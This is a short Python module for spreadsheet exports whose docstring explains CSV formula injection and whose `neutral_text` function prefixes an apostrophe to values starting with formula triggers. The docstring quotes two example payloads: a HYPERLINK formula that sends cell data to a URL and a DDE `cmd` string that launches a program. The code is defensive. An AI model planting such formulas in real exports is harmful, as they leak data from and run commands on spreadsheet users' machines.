"""One rule for every string a spreadsheet export writes (CSV and XLSX): it stays text, never a formula.

Names, addresses and notes come from people and from imported files. A value such as
`=HYPERLINK("http://…?d="&A1,"Xem")` or `=cmd|' /C calc'!A0` becomes a live formula when Excel or
LibreOffice opens a CSV, or when someone edits that cell of an XLSX (OWASP "CSV injection"). Text
starting with one of the formula triggers gets a leading apostrophe, which the spreadsheet shows and
never evaluates; every export (reports.csv, reports.xlsx and the import template) writes its strings
through `neutral_text`.
"""

#: What spreadsheets read as the start of a formula (OWASP): = + - @, a tab and a carriage return.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutral_text(value: str) -> str:
    return f"'{value}" if value.startswith(FORMULA_TRIGGERS) else value
